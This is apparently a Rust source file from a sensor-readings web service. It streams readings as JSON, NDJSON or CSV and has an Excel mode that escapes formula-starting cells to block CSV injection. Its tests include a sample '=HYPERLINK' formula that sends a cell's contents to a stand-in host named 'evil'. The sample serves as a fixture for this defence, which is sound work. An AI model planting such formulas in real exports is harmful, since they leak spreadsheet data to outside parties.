//! Renders readings as JSON, NDJSON and CSV, in chunks while the response is sent.

use std::convert::Infallible;

use axum::body::{Body, Bytes};
use axum::http::header::CONTENT_TYPE;
use axum::http::{HeaderName, HeaderValue};
use axum::response::Response;
use futures_util::{StreamExt, stream};
use serde_json::{Value as Json, json};
use tokio::sync::OwnedSemaphorePermit;

use super::params::Format;
use crate::read::QueryResult;
use crate::read::merge::MergedReadings;
use model::rows::Row;
use model::{Rows, ValueRef, rfc3339};

/// Readings per chunk.
const PIECE: usize = 512;
/// A response of one chunk that is not larger does not count as one that is being sent.
const SMALL_BYTES_MAX: usize = 64 << 10;

/// Headers in which NDJSON and CSV carry what JSON has as `next`, `complete` and `readings_until`.
const NEXT: HeaderName = HeaderName::from_static("x-hourbucket-next");
const COMPLETE: HeaderName = HeaderName::from_static("x-hourbucket-complete");
const READINGS_UNTIL: HeaderName = HeaderName::from_static("x-hourbucket-readings-until");

/// Produces the body chunk by chunk: the beginning, the readings, the end.
struct BodyChunks {
    format: Format,
    begin: Option<String>,
    rows: Rows,
    end: String,
    /// For CSV: the fields, sorted.
    columns: Vec<String>,
    is_first: bool,
    _sending: OwnedSemaphorePermit,
}

/// The response to `GET /v1/sensors/{id}/readings`. `sending` is held until the response is sent.
pub(super) fn readings_body(
    format: Format,
    sensor_id: &str,
    (from_ms, to_ms): (i64, i64),
    found: QueryResult<MergedReadings>,
    sending: OwnedSemaphorePermit,
) -> Response {
    let QueryResult {
        answer:
            MergedReadings {
                rows,
                next,
                removed_until_ms,
            },
        complete,
    } = found;
    let until = removed_until_ms.map(rfc3339);
    let next = next.map(|cursor| cursor.to_string());
    let mut columns: Vec<String> = rows.fields().iter().map(ToString::to_string).collect();
    columns.sort();
    columns.dedup();
    let (content_type, begin, end) = match format {
        Format::Json => {
            let id = Json::from(sensor_id);
            let from = rfc3339(from_ms);
            let to = rfc3339(to_ms);
            let begin =
                format!("{{\"sensor_id\":{id},\"from\":\"{from}\",\"to\":\"{to}\",\"readings\":[");
            let until = until
                .as_ref()
                .map(|until| format!(",\"readings_until\":\"{until}\""))
                .unwrap_or_default();
            let end = format!(
                "],\"next\":{},\"complete\":{complete}{until}}}",
                Json::from(next.clone())
            );
            ("application/json", begin, end)
        }
        Format::Ndjson => ("application/x-ndjson", String::new(), String::new()),
        Format::Csv | Format::CsvExcel => {
            let mut begin = "ts".to_owned();
            columns.iter().for_each(|column| {
                begin.push(',');
                csv_cell(&mut begin, column, format);
            });
            (
                "text/csv; charset=utf-8; header=present",
                begin + "\r\n",
                String::new(),
            )
        }
    };
    let mut pieces = BodyChunks {
        format,
        begin: Some(begin),
        rows,
        end,
        columns,
        is_first: true,
        _sending: sending,
    };
    let first = pieces.next().unwrap_or_default();
    // Of a small body, the length tells that it need not be compressed.
    let body = if pieces.is_done() && first.len() <= SMALL_BYTES_MAX {
        Body::from(first)
    } else {
        let first = stream::iter([Ok::<_, Infallible>(Bytes::from(first))]);
        let rest = stream::unfold(pieces, |mut pieces| async move {
            let piece = pieces.next()?;
            Some((Ok(Bytes::from(piece)), pieces))
        });
        Body::from_stream(first.chain(rest))
    };
    let mut response = Response::new(body);
    let headers = response.headers_mut();
    headers.insert(CONTENT_TYPE, HeaderValue::from_static(content_type));
    headers.insert(
        COMPLETE,
        HeaderValue::from_static(if complete { "true" } else { "false" }),
    );
    if let Some(next) = next.and_then(|next| HeaderValue::from_str(&next).ok()) {
        headers.insert(NEXT, next);
    }
    if let Some(until) = until.and_then(|until| HeaderValue::from_str(&until).ok()) {
        headers.insert(READINGS_UNTIL, until);
    }
    response
}

impl BodyChunks {
    fn is_done(&self) -> bool {
        self.begin.is_none() && self.rows.is_empty() && self.end.is_empty()
    }

    fn next(&mut self) -> Option<String> {
        if self.is_done() {
            return None;
        }
        let mut piece = self.begin.take().unwrap_or_default();
        let rows = self.rows.take_front(PIECE, u64::MAX);
        for row in rows.iter() {
            match self.format {
                Format::Json => {
                    if !std::mem::take(&mut self.is_first) {
                        piece.push(',');
                    }
                    row_json(&mut piece, &row);
                }
                Format::Ndjson => {
                    row_json(&mut piece, &row);
                    piece.push('\n');
                }
                Format::Csv | Format::CsvExcel => {
                    row_csv(&mut piece, &row, &self.columns, self.format)
                }
            }
        }
        if self.rows.is_empty() {
            piece += &std::mem::take(&mut self.end);
        }
        // An empty chunk would end a chunked body. Only an NDJSON body without readings is empty.
        (!piece.is_empty()).then_some(piece)
    }
}

fn row_json(out: &mut String, row: &Row<'_>) {
    let mut values: Vec<(&str, ValueRef<'_>)> = row.named().collect();
    values.sort_by_key(|(name, _)| *name);
    out.push_str("{\"ts\":\"");
    out.push_str(&rfc3339(row.ts_ms));
    out.push_str("\",\"values\":{");
    for (i, (name, value)) in values.into_iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        out.push_str(&Json::from(name).to_string());
        out.push(':');
        out.push_str(&json!(value).to_string());
    }
    out.push_str("}}");
}

fn row_csv(out: &mut String, row: &Row<'_>, columns: &[String], format: Format) {
    let mut values: Vec<(&str, ValueRef<'_>)> = row.named().collect();
    values.sort_by_key(|(name, _)| *name);
    out.push_str(&rfc3339(row.ts_ms));
    for column in columns {
        out.push(',');
        let Ok(at) = values.binary_search_by_key(&column.as_str(), |(name, _)| *name) else {
            continue;
        };
        match values[at].1 {
            // Distinguishes an empty text from an absent one.
            ValueRef::Str("") => out.push_str("\"\""),
            ValueRef::Str(text) => csv_cell(out, text, format),
            other => out.push_str(&json!(other).to_string()),
        }
    }
    out.push_str("\r\n");
}

fn csv_cell(out: &mut String, text: &str, format: Format) {
    if format == Format::CsvExcel {
        excel_text(out, text)
    } else {
        csv_text(out, text)
    }
}

/// A cell in which a spreadsheet finds no formula (OWASP, "CSV Injection"; ASVS 5.0, 1.2.10):
/// always quoted, and a character that begins a formula has a single quote before it, at the
/// beginning of the cell and after a character that some spreadsheets split cells at. (If Excel
/// expects semicolons, the quotes of this format do not count.)
fn excel_text(out: &mut String, text: &str) {
    let begins_formula = |c: char| {
        matches!(
            c,
            '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '\0' | '＝' | '＋' | '－' | '＠'
        )
    };
    let mut is_start = true;
    out.push('"');
    for c in text.chars() {
        if is_start && begins_formula(c) {
            out.push('\'');
        }
        is_start = matches!(c, ',' | ';' | '|' | '\t' | '\r' | '\n');
        if c == '"' {
            out.push('"');
        }
        out.push(c);
    }
    out.push('"');
}

/// RFC 4180 §2: quoted if it contains a separator or a quote, with quotes doubled.
fn csv_text(out: &mut String, text: &str) {
    if !text.contains(['"', ',', '\r', '\n']) {
        return out.push_str(text);
    }
    out.push('"');
    out.push_str(&text.replace('"', "\"\""));
    out.push('"');
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use axum::body::to_bytes;
    use tokio::sync::Semaphore;

    use super::*;
    use model::RowFlags;

    async fn body(format: Format, rows: Rows) -> String {
        let permit = Arc::new(Semaphore::new(1)).try_acquire_owned().unwrap();
        let found = QueryResult {
            answer: MergedReadings {
                rows,
                next: None,
                removed_until_ms: None,
            },
            complete: true,
        };
        let response = readings_body(format, "a\"b", (0, 1), found, permit);
        String::from_utf8(
            to_bytes(response.into_body(), usize::MAX)
                .await
                .unwrap()
                .to_vec(),
        )
        .unwrap()
    }

    #[tokio::test]
    async fn every_format_shows_every_value_and_an_empty_answer_is_whole() {
        let mut rows = Rows::default();
        for i in 0..(PIECE as i64 * 2 + 1) {
            rows.push_named(
                i,
                RowFlags::default(),
                &[("n", ValueRef::Int(i)), ("d", ValueRef::Double(0.5))],
            );
        }
        let text = [
            ("say, \"it\"", ValueRef::Str("a,\"b\"\r\nc")),
            ("e", ValueRef::Str("")),
            ("on", ValueRef::Bool(true)),
        ];
        rows.push_named(5000, RowFlags::default(), &text);
        let csv = body(Format::Csv, rows.clone()).await;
        assert!(
            csv.starts_with(
                "ts,d,e,n,on,\"say, \"\"it\"\"\"\r\n1970-01-01T00:00:00.000Z,0.5,,0,,\r\n"
            ),
            "{csv:.200}"
        );
        assert!(csv.ends_with("1970-01-01T00:00:05.000Z,,\"\",,true,\"a,\"\"b\"\"\r\nc\"\r\n"));
        let json: Json = serde_json::from_str(&body(Format::Json, rows.clone()).await).unwrap();
        assert_eq!(json["readings"].as_array().unwrap().len(), PIECE * 2 + 2);
        assert_eq!(
            json["readings"][7],
            serde_json::json!({"ts": "1970-01-01T00:00:00.007Z", "values": {"d": 0.5, "n": 7}})
        );
        assert_eq!(
            (&json["sensor_id"], &json["complete"], &json["next"]),
            (&"a\"b".into(), &true.into(), &Json::Null)
        );
        let lines = body(Format::Ndjson, rows).await;
        assert_eq!(lines.lines().count(), PIECE * 2 + 2);
        lines
            .lines()
            .for_each(|line| drop(serde_json::from_str::<Json>(line).unwrap()));
        assert_eq!(body(Format::Ndjson, Rows::default()).await, "");
        assert_eq!(body(Format::Csv, Rows::default()).await, "ts\r\n");
        serde_json::from_str::<Json>(&body(Format::Json, Rows::default()).await).unwrap();
    }

    #[tokio::test]
    async fn a_spreadsheet_finds_no_formula_in_csv_of_its_own() {
        let evil = "=HYPERLINK(\"http://evil/\"&A1)";
        let mut rows = Rows::default();
        for (i, text) in [
            evil, "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "＝1", "a;=1", "a\n=1", "1,-2", "a - b",
            "plain", "", "'=1",
        ]
        .into_iter()
        .enumerate()
        {
            rows.push_named(i as i64, RowFlags::default(), &[("t", ValueRef::Str(text))]);
        }
        let numbers = [
            ("=n", ValueRef::Int(-5)),
            ("d", ValueRef::Double(-0.5)),
            ("on", ValueRef::Bool(true)),
        ];
        rows.push_named(99, RowFlags::default(), &numbers);
        let plain = body(Format::Csv, rows.clone()).await;
        assert!(
            plain.starts_with("ts,=n,d,on,t\r\n") && plain.contains(",-1\r\n"),
            "unchanged without it: {plain}"
        );
        let excel = body(Format::CsvExcel, rows).await;
        assert!(
            excel.starts_with("ts,\"'=n\",\"d\",\"on\",\"t\"\r\n"),
            "{excel}"
        );
        for (i, cell) in [
            "'=HYPERLINK(\"\"http://evil/\"\"&A1)",
            "'+1",
            "'-1",
            "'@SUM(1)",
            "'\t'=1",
            "'\r'=1",
            "'＝1",
            "a;'=1",
            "a\n'=1",
            "1,'-2",
            "a - b",
            "plain",
            "",
            "'=1",
        ]
        .into_iter()
        .enumerate()
        {
            let line = format!("\r\n1970-01-01T00:00:00.{i:03}Z,,,,\"{cell}\"\r\n");
            assert!(excel.contains(&line), "{line:?} in {excel}");
        }
        assert!(
            excel.ends_with("1970-01-01T00:00:00.099Z,-5,-0.5,true,\r\n"),
            "numbers stay numbers: {excel}"
        );
    }
}
